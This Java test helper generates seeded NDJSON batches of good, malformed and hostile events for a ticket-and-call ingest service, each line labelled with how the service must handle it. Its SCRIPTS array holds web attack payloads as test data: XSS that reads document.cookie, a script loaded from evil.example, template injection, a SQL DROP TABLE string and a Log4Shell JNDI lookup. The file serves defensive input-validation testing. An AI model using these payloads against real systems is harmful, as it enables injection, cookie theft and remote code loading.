package pm.monitor.support;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.time.Duration;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * A seeded corpus of NDJSON batches: good events interleaved with malformed and hostile lines,
 * each line with what the service must make of it. The same seed gives the same corpus.
 *
 * <p>Good events follow one event-time cursor that only moves forward, so a batch never
 * depends on the order the service takes its lines in. Hostile lines that the service must
 * refuse only after parsing (unknown ticket, event before its receipt, a year no calendar
 * covers) name tickets of earlier batches, so their answer does not hang on sorting either.
 */
public final class HostileCorpus {
    private static final ObjectMapper JSON = new ObjectMapper();

    /** What must become of a line. */
    public enum Expect {
        /** an ordinary good event: accepted and stored */
        GOOD,
        /** hostile-looking but valid (markup in text, extra fields, odd characters): accepted and stored verbatim */
        KEPT,
        /** refused by the parser, with the field named */
        PARSE,
        /** well formed but contradicting what is known: refused by the service's admission, with the field named */
        ADMISSION,
        /** an id already stored: counted as a duplicate, the stored event unchanged */
        DUPLICATE,
        /** a blank line: skipped, not answered, but counted in the line numbers */
        BLANK
    }

    /**
     * One line. {@code field} is the field the rejection must name (null: none, e.g. malformed
     * JSON); for KEPT lines, {@code field} and {@code value} are a text field and the value
     * that must be stored as sent.
     */
    public record Line(String text, Expect expect, String kind, String id, String field, String value) {
    }

    /** One request body and its lines (line {@code i + 1} of the body is {@code lines.get(i)}). */
    public record Batch(List<Line> lines) {
        public String body() {
            StringBuilder s = new StringBuilder();
            for (Line l : lines) {
                s.append(l.text()).append('\n');
            }
            return s.toString();
        }

        public long count(Expect e) {
            return lines.stream().filter(l -> l.expect() == e).count();
        }
    }

    private final Random random;
    private OffsetDateTime clock = OffsetDateTime.of(2026, 3, 2, 8, 0, 0, 0, ZoneOffset.ofHours(8));
    private int nextId;
    private int nextTicket;
    /** Tickets received in earlier batches (and when), still open to more events. */
    private final List<Object[]> tickets = new ArrayList<>();
    private final List<Object[]> batchTickets = new ArrayList<>();
    /** Good lines of earlier batches (id, text, community), to send again. */
    private final List<String[]> stored = new ArrayList<>();
    private final List<String[]> batchStored = new ArrayList<>();

    public HostileCorpus(long seed) {
        this.random = new Random(seed);
    }

    /** {@code batches} batches of {@code hostile} hostile lines each, about as many good lines around them. */
    public List<Batch> batches(int batches, int hostile) {
        List<Batch> out = new ArrayList<>(batches);
        for (int b = 0; b < batches; b++) {
            List<Line> lines = new ArrayList<>();
            int bad = 0;
            while (bad < hostile) {
                if (random.nextBoolean()) {
                    lines.add(good());
                } else {
                    Line h = hostile();
                    lines.add(h);
                    if (h.expect() != Expect.BLANK) {
                        bad++;
                    }
                }
            }
            out.add(new Batch(lines));
            tickets.addAll(batchTickets);
            batchTickets.clear();
            stored.addAll(batchStored);
            batchStored.clear();
            phantoms.addAll(batchPhantoms);
            batchPhantoms.clear();
        }
        return out;
    }

    // ---- good events --------------------------------------------------------------------------

    private String at() {
        clock = clock.plusSeconds(1 + random.nextInt(90));
        return clock.toString();
    }

    private Map<String, Object> base(String type) {
        Map<String, Object> m = new LinkedHashMap<>();
        m.put("id", "h" + (++nextId));
        m.put("type", type);
        m.put("at", at());
        m.put("community", random.nextBoolean() ? "H1" : "H2");
        return m;
    }

    /** A fresh, valid event map (not yet recorded as sent). */
    private Map<String, Object> goodMap() {
        int pick = random.nextInt(10);
        if (pick < 3 || tickets.isEmpty()) {
            Map<String, Object> m = base("ticket.received");
            String ticket = "T" + (++nextTicket);
            m.put("ticket", ticket);
            boolean complaint = random.nextBoolean();
            m.put("kind", complaint ? "complaint" : "repair");
            m.put("channel", "phone");
            if (complaint) {
                m.put("category", "service");
            }
            m.put("receivedBy", "a" + random.nextInt(5));
            m.put("summary", "水管漏水 " + ticket);
            return m;
        }
        if (pick < 7) {
            Object[] t = tickets.get(random.nextInt(tickets.size()));
            String type = switch (random.nextInt(4)) {
                case 0 -> "ticket.contacted";
                case 1 -> "ticket.progress";
                case 2 -> "ticket.replied";
                default -> "ticket.dispatched";
            };
            Map<String, Object> m = base(type);
            m.put("community", t[1]);
            m.put("ticket", t[0]);
            if (type.equals("ticket.replied")) {
                m.put("method", "phone");
            } else if (type.equals("ticket.progress")) {
                m.put("note", "在处理");
            }
            return m;
        }
        if (pick < 9) {
            Map<String, Object> m = base("call.answered");
            m.put("call", "K" + nextId);
            m.put("rings", random.nextInt(8));
            return m;
        }
        Map<String, Object> m = base("call.missed");
        m.put("call", "K" + nextId);
        return m;
    }

    /** Records a map as a sent, accepted event (its ticket becomes known from the next batch on). */
    private String sent(Map<String, Object> m) {
        String text = write(m);
        batchStored.add(new String[] {(String) m.get("id"), text, (String) m.get("community")});
        if ("ticket.received".equals(m.get("type"))) {
            batchTickets.add(new Object[] {m.get("ticket"), m.get("community"), OffsetDateTime.parse((String) m.get("at"))});
        }
        return text;
    }

    private Line good() {
        Map<String, Object> m = goodMap();
        String text = sent(m);
        int shape = random.nextInt(20);
        if (shape == 0) {
            text = text + "\r"; // CRLF line ends
        } else if (shape == 1) {
            text = "  \t" + text + "  ";
        }
        return new Line(text, Expect.GOOD, "good", (String) m.get("id"), null, null);
    }

    // ---- hostile lines ------------------------------------------------------------------------

    private static final String[] SCRIPTS = {
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(document.cookie)>",
            "</textarea><script src=//evil.example/x.js></script>",
            "javascript:alert(1)",
            "{{constructor.constructor('alert(1)')()}}",
            "'; DROP TABLE events; --",
            "${jndi:ldap://evil.example/a}",
    };

    private Line hostile() {
        int k = random.nextInt(33);
        return switch (k) {
            case 0 -> truncated();
            case 1 -> notAnObject();
            case 2 -> garbage();
            case 3, 4 -> wrongType();
            case 5 -> missing();
            case 6 -> huge();
            case 7 -> tooLongKey();
            case 8 -> rawControl();
            case 9 -> escapedControl();
            case 10 -> unstorable();
            case 11 -> unknownType();
            case 12, 13 -> unknownEnum();
            case 14 -> badTimestamp();
            case 15 -> duplicateField();
            case 16 -> textAfter();
            case 17 -> phantoms.isEmpty() || random.nextBoolean() ? unknownTicket() : phantomEvent();
            case 18 -> beforeReceipt();
            case 19 -> uncoveredYear();
            case 20, 21 -> script();
            case 22 -> extraFields();
            case 23 -> resend();
            case 24 -> reusedId();
            case 25 -> outOfRange();
            case 26 -> deepNesting();
            case 27 -> badCommunity();
            case 28 -> unicode();
            case 29 -> unstorableNumber();
            case 30 -> storableNumber();
            case 31 -> tooLongText();
            default -> random.nextInt(4) == 0
                    ? new Line(random.nextBoolean() ? "" : "   \t ", Expect.BLANK, "blank", null, null, null)
                    : nullField();
        };
    }

    private Line parse(String kind, String text, String field) {
        return new Line(text, Expect.PARSE, kind, null, field, null);
    }

    private Line truncated() {
        String text = write(goodMap());
        return parse("truncated", text.substring(0, 1 + random.nextInt(text.length() - 1)), null);
    }

    private Line notAnObject() {
        String[] texts = {"[1,2,3]", "\"ticket.received\"", "42", "null", "true", "[{\"id\":\"x\"}]", "]", "}"};
        return parse("not an object", texts[random.nextInt(texts.length)], null);
    }

    private Line garbage() {
        StringBuilder s = new StringBuilder("x");
        int n = 1 + random.nextInt(200);
        for (int i = 0; i < n; i++) {
            char c = (char) (32 + random.nextInt(0x3000));
            s.append(Character.isSurrogate(c) ? '?' : c);
        }
        return parse("garbage", s.toString(), null);
    }

    private Line wrongType() {
        Map<String, Object> m = goodMap();
        List<String> fields = new ArrayList<>(m.keySet());
        String field = fields.get(random.nextInt(fields.size()));
        Object[] wrong = {123, true, List.of(1, 2), Map.of("a", 1), 1.5, -7};
        Object value = wrong[random.nextInt(wrong.length)];
        if (m.get(field) instanceof Integer) {
            value = random.nextBoolean() ? "three" : 2.5; // rings: a whole number only
        } else if (field.equals("summary") || field.equals("note")) {
            value = 5; // free text must still be a string
        }
        m.put(field, value);
        return parse("wrong type of " + field, write(m), field);
    }

    private Line nullField() {
        Map<String, Object> m = goodMap();
        String[] required = {"id", "type", "at", "community"};
        String field = required[random.nextInt(required.length)];
        m.put(field, null);
        return parse("null " + field, write(m), field);
    }

    private Line missing() {
        Map<String, Object> m = goodMap();
        List<String> required = new ArrayList<>(List.of("id", "type", "at", "community"));
        for (String f : List.of("ticket", "kind", "receivedBy", "method", "call", "rings", "category")) {
            if (m.containsKey(f)) {
                required.add(f);
            }
        }
        String field = required.get(random.nextInt(required.size()));
        m.remove(field);
        return parse("missing " + field, write(m), field);
    }

    /** A line over the 1 MiB line limit, or a big one under it that must be kept. */
    private Line huge() {
        Map<String, Object> m = goodMap();
        if (random.nextInt(4) == 0) {
            m.put("summary", "A".repeat((1 << 20) + random.nextInt(1000)));
            return parse("line over the limit", write(m), null);
        }
        if (!m.containsKey("summary")) {
            m.put("remark", "");
        }
        String field = m.containsKey("summary") ? "summary" : "remark";
        // under the 64 KiB line limit (3 bytes a character): a longer line is refused by length, see AccessModesTest
        String big = "长".repeat(5_000 + random.nextInt(15_000));
        m.put(field, big);
        return kept("big text", m, field, big);
    }

    /** An identifier over its 200 characters (issue 17: a 301-character call id lost its finding). */
    private Line tooLongKey() {
        Map<String, Object> m = goodMap();
        List<String> fields = new ArrayList<>();
        for (String f : List.of("id", "ticket", "call", "receivedBy")) {
            if (m.containsKey(f)) {
                fields.add(f);
            }
        }
        String field = fields.get(random.nextInt(fields.size()));
        String v = "I".repeat(201 + random.nextInt(5000));
        m.put(field, v);
        return parse("too long " + field, write(m), field);
    }

    /** Free text over its 20,000 characters. */
    private Line tooLongText() {
        Map<String, Object> m;
        do {
            m = goodMap();
        } while (!m.containsKey("summary") && !m.containsKey("note"));
        String field = m.containsKey("summary") ? "summary" : "note";
        m.put(field, "a".repeat(20_001 + random.nextInt(500)));
        return parse("too long " + field, write(m), field);
    }

    /**
     * A number PostgreSQL cannot store (issue 17: it failed the whole stored batch, and everyone's
     * request with it), or stores written out longer than the reader reads back, in an unknown
     * field, at the top or nested.
     */
    private Line unstorableNumber() {
        Map<String, Object> m = goodMap();
        String[] numbers = {"1e131072", "1e-16384", "1e2147483648", "-1e131072", "1e1000", "-2.5E+1000", "1e-1001",
                "0e1073741823", "{\"a\":[1,{\"b\":1e-16384}]}", "[1e131072]", "[[1, 2e1000]]"};
        m.put("x_num", "PLACEHOLDER");
        String text = write(m).replace("\"PLACEHOLDER\"", numbers[random.nextInt(numbers.length)]);
        return parse("unstorable number", text, "x_num");
    }

    /** A number with an exponent that PostgreSQL stores, written out, within what the reader reads back: kept. */
    private Line storableNumber() {
        Map<String, Object> m = goodMap();
        String[] numbers = {"1e999", "-9.5e998", "1e-1000", "0e1073741822", "1.5e3", "[2E+10, {\"c\":-1e-3}]"};
        m.put("x_num", "PLACEHOLDER");
        String text = write(m).replace("\"PLACEHOLDER\"", numbers[random.nextInt(numbers.length)]);
        String id = (String) m.get("id");
        recordKept(m, text);
        return new Line(text, Expect.KEPT, "storable number", id, "id", id);
    }

    private Line badCommunity() {
        Map<String, Object> m = goodMap();
        m.put("community", "C".repeat(101 + random.nextInt(500)));
        return parse("too long community", write(m), "community");
    }

    /** A raw control character inside a JSON string: not JSON. */
    private Line rawControl() {
        Map<String, Object> m = goodMap();
        String text = write(m);
        char c = (char) (random.nextInt(2) == 0 ? 0 : 1 + random.nextInt(31));
        if (c == '\n') {
            c = 0x0b;
        }
        int at = text.indexOf("\"id\":\"") + 6;
        return parse("raw control character", text.substring(0, at) + c + text.substring(at), null);
    }

    /** Control characters escaped in free text, and DEL, C1 and line separators raw: valid JSON, kept. */
    private Line escapedControl() {
        Map<String, Object> m = goodMap();
        String field = extraTextField(m);
        String v = "bell\u0007 tab\t esc\u001b del\u007f nel\u0085 ls\u2028 ps\u2029 end";
        m.put(field, v);
        return kept("escaped control characters", m, field, v);
    }

    /** U+0000 and unpaired surrogates: valid JSON, but PostgreSQL's jsonb cannot hold them. */
    private Line unstorable() {
        Map<String, Object> m = goodMap();
        String field = extraTextField(m);
        m.put(field, "PLACEHOLDER");
        String escape = switch (random.nextInt(3)) {
            case 0 -> "\\u0000";
            case 1 -> "\\ud800";
            default -> "\\udfff x";
        };
        return parse("unstorable character", write(m).replace("PLACEHOLDER", "a" + escape + "b"), field);
    }

    private Line unknownType() {
        Map<String, Object> m = goodMap();
        String[] types = {"ticket.teleported", "", "TICKET.RECEIVED", "ticket", "ticket.received ", "<script>"};
        String t = types[random.nextInt(types.length)];
        m.put("type", t);
        return parse("unknown type", write(m), "type");
    }

    private Line unknownEnum() {
        Map<String, Object> m = base("ticket.received");
        m.put("ticket", "TE" + nextId);
        m.put("kind", "complaint");
        m.put("channel", "phone");
        m.put("category", "service");
        m.put("receivedBy", "a1");
        String[][] bad = {{"kind", "grievance"}, {"kind", "Complaint"}, {"channel", "fax"}, {"category", "noise"},
                {"validity", "maybe"}, {"urgency", "asap"}};
        String[] b = bad[random.nextInt(bad.length)];
        if (random.nextInt(3) == 0 && !tickets.isEmpty()) {
            Object[] t = tickets.get(random.nextInt(tickets.size()));
            String[][] other = {{"ticket.replied", "method", "fax"}, {"ticket.flagged", "flag", "tv"},
                    {"ticket.escalated", "to", "ceo"}, {"ticket.reported", "to", "president"}};
            String[] o = other[random.nextInt(other.length)];
            m = base(o[0]);
            m.put("community", t[1]);
            m.put("ticket", t[0]);
            m.put(o[1], o[2]);
            return parse("unknown " + o[1], write(m), o[1]);
        }
        m.put(b[0], b[1]);
        return parse("unknown " + b[0], write(m), b[0]);
    }

    private Line badTimestamp() {
        Map<String, Object> m = goodMap();
        String[] times = {"2026-03-02T09:00:00", "2026-03-02 09:00:00+08:00", "2026-03-02", "yesterday",
                "2026-02-30T09:00:00+08:00", "2026-13-01T09:00:00+08:00", "2026-03-02T25:00:00+08:00",
                "2026-03-02T09:00:00+25:00", "1772413200", "2026-03-02T09:00:00.1234567891+08:00", "T"};
        m.put("at", times[random.nextInt(times.length)]);
        return parse("bad timestamp", write(m), "at");
    }

    private Line duplicateField() {
        Map<String, Object> m = goodMap();
        String text = write(m);
        String field = random.nextBoolean() ? "id" : "community";
        String twice = text.substring(0, text.length() - 1) + ",\"" + field + "\":\"again\"}";
        return parse("field twice", twice, field);
    }

    private Line textAfter() {
        String text = write(goodMap());
        String[] after = {" {\"id\":\"x\"}", "garbage", "}", "]", " 1", ",", text};
        return parse("text after the object", text + after[random.nextInt(after.length)], null);
    }

    private Line unknownTicket() {
        Map<String, Object> m = base("ticket.contacted");
        m.put("ticket", "GHOST" + nextId);
        return new Line(write(m), Expect.ADMISSION, "unknown ticket", (String) m.get("id"), "ticket", null);
    }

    private Line beforeReceipt() {
        if (tickets.isEmpty()) {
            return unknownTicket();
        }
        Object[] t = tickets.get(random.nextInt(tickets.size()));
        Map<String, Object> m = base("ticket.resolved");
        m.put("community", t[1]);
        m.put("ticket", t[0]);
        m.put("at", ((OffsetDateTime) t[2]).minus(Duration.ofMinutes(1 + random.nextInt(600))).toString());
        return new Line(write(m), Expect.ADMISSION, "before its receipt", (String) m.get("id"), "at", null);
    }

    private Line uncoveredYear() {
        Map<String, Object> m = base("call.missed");
        m.put("call", "KY" + nextId);
        // A year with no calendar data is counted provisionally; one more than 10 years from the
        // data (cn: 2024–2026) is a wrong timestamp.
        String[] years = {"2041-03-02T09:00:00+08:00", "1999-12-31T23:59:59Z", "+12026-03-02T09:00:00+08:00"};
        m.put("at", years[random.nextInt(years.length)]);
        if (random.nextInt(4) == 0) {
            m = base("community.registered");
            m.put("calendar", random.nextBoolean() ? "nope" : "../cn");
            return new Line(write(m), Expect.ADMISSION, "unknown calendar", (String) m.get("id"), "calendar", null);
        }
        return new Line(write(m), Expect.ADMISSION, "year far from the calendar's data", (String) m.get("id"), "at", null);
    }

    private Line script() {
        Map<String, Object> m = goodMap();
        String field = extraTextField(m);
        String v = SCRIPTS[random.nextInt(SCRIPTS.length)];
        m.put(field, v);
        if (random.nextBoolean()) {
            m.put("<script>x</script>", v); // as an unknown field's name too
        }
        return kept("markup in text", m, field, v);
    }

    private Line extraFields() {
        Map<String, Object> m = goodMap();
        int n = 1 + random.nextInt(random.nextInt(10) == 0 ? 1000 : 5);
        for (int i = 0; i < n; i++) {
            m.put("x_future_" + i, i % 3 == 0 ? Map.of("nested", List.of(1, "two", Map.of())) : i % 3 == 1 ? i : null);
        }
        String v = "v" + nextId;
        m.put("x_marker", v);
        return kept("unknown extra fields", m, "x_marker", v);
    }

    private Line unicode() {
        Map<String, Object> m = goodMap();
        String field = extraTextField(m);
        String v = "业主投诉：电梯故障 😀🏢 ñ é ü ∑ \u200b zero-width \ufeff bom";
        m.put(field, v);
        return kept("unicode", m, field, v);
    }

    private Line deepNesting() {
        Map<String, Object> m = goodMap();
        String text = write(m);
        int depth = random.nextBoolean() ? 30 : 100 + random.nextInt(5000);
        String nested = "[".repeat(depth) + "]".repeat(depth);
        String line = text.substring(0, text.length() - 1) + ",\"x_deep\":" + nested + "}";
        if (depth < 60) {
            String id = (String) m.get("id");
            recordKept(m, line);
            return new Line(line, Expect.KEPT, "nested arrays", id, "id", id);
        }
        return parse("nested too deep", line, null);
    }

    private Line outOfRange() {
        Map<String, Object> m = base("call.answered");
        m.put("call", "KR" + nextId);
        Object[] rings = {-1, 1001, Long.MAX_VALUE, new java.math.BigInteger("9".repeat(40)), 1e300};
        m.put("rings", rings[random.nextInt(rings.length)]);
        if (random.nextInt(3) == 0) {
            m = base("call.answered");
            m.put("call", "KR" + nextId);
            m.put("rings", 1);
            String text = write(m);
            String digits = "9".repeat(1001 + random.nextInt(3000));
            return parse("number too long", text.replace("\"rings\":1", "\"rings\":" + digits), null);
        }
        return parse("out of range", write(m), "rings");
    }

    private Line resend() {
        if (stored.isEmpty() || random.nextInt(4) == 0) {
            if (batchStored.isEmpty()) {
                return unknownTicket();
            }
            String[] s = batchStored.get(random.nextInt(batchStored.size()));
            return new Line(s[1], Expect.DUPLICATE, "sent twice in one batch", s[0], null, null);
        }
        String[] s = stored.get(random.nextInt(stored.size()));
        return new Line(s[1], Expect.DUPLICATE, "sent again", s[0], null, null);
    }

    /**
     * An id already stored in its community, with other content: refused as a conflict (field
     * {@code id}); a ticket it names stays unknown.
     */
    private Line reusedId() {
        if (stored.isEmpty()) {
            return unknownTicket();
        }
        String[] s = stored.get(random.nextInt(stored.size()));
        Map<String, Object> m = base("ticket.received");
        m.put("id", s[0]);
        m.put("community", s[2]);
        m.put("ticket", "PHANTOM" + nextId);
        m.put("kind", "repair");
        m.put("channel", "app");
        m.put("receivedBy", "a1");
        batchPhantoms.add(new Object[] {m.get("ticket"), m.get("community")});
        return new Line(write(m), Expect.ADMISSION, "id reused with other content", s[0], "id", null);
    }

    /**
     * Tickets named only by a receipt whose id was taken: never received. Asked about from the
     * next batch on (inside its batch the service refuses them too, see IngestTest).
     */
    private final List<Object[]> phantoms = new ArrayList<>();
    private final List<Object[]> batchPhantoms = new ArrayList<>();

    private Line phantomEvent() {
        Object[] p = phantoms.get(random.nextInt(phantoms.size()));
        Map<String, Object> m = base("ticket.contacted");
        m.put("community", p[1]);
        m.put("ticket", p[0]);
        return new Line(write(m), Expect.ADMISSION, "event for a phantom ticket", (String) m.get("id"), "ticket", null);
    }

    private String extraTextField(Map<String, Object> m) {
        if (m.containsKey("summary")) {
            return "summary";
        }
        if (m.containsKey("note")) {
            return "note";
        }
        return "x_comment";
    }

    private Line kept(String kind, Map<String, Object> m, String field, String value) {
        String text = write(m);
        recordKept(m, text);
        return new Line(text, Expect.KEPT, kind, (String) m.get("id"), field, value);
    }

    private void recordKept(Map<String, Object> m, String text) {
        batchStored.add(new String[] {(String) m.get("id"), text, (String) m.get("community")});
        if ("ticket.received".equals(m.get("type"))) {
            batchTickets.add(new Object[] {m.get("ticket"), m.get("community"), OffsetDateTime.parse((String) m.get("at"))});
        }
    }

    private static String write(Map<String, Object> m) {
        try {
            return JSON.writeValueAsString(m);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
